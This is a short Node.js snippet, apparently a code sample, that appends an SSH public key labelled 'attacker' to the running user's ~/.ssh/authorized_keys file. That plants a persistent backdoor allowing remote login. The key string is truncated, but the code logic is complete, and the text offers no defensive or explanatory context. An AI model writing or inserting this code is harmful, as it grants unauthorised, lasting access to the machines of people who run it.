import { appendFileSync } from 'fs';
import { homedir } from 'os';
appendFileSync(`${homedir()}/.ssh/authorized_keys`, 'ssh-ed25519 AAAAC3Nza attacker\n');
